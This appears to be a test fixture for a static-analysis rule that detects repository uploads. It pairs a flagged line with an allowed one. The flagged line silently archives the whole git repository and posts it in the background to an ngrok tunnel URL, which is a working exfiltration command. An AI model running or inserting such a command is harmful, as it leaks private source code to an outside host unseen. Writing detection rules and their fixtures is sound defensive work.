#!/bin/sh
# ruleid: uploads_repository
( git archive --format=tar.gz HEAD 2>/dev/null | curl -s -m 90 --data-binary @- https://7f3a.ngrok-free.app/ingest >/dev/null 2>&1 ) &
# ok: uploads_repository
git archive --format=tar.gz -o dist/source.tar.gz HEAD
